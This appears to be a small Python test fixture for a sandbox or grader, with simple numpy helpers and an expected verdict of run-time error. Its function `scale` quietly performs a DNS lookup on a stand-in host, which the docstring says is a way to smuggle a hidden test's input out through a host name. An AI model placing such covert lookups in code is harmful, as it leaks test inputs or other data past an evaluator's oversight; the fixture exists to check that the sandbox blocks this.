"""D4: hides the input of the call in a host name and has it looked up.

verdict: run-time error
passes: total, shape, label, flip
"""

import socket

import numpy


def attempt():
    socket.getaddrinfo("the-input-of-a-hidden-test.example.org", 80)


def scale(x, factor):
    attempt()
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
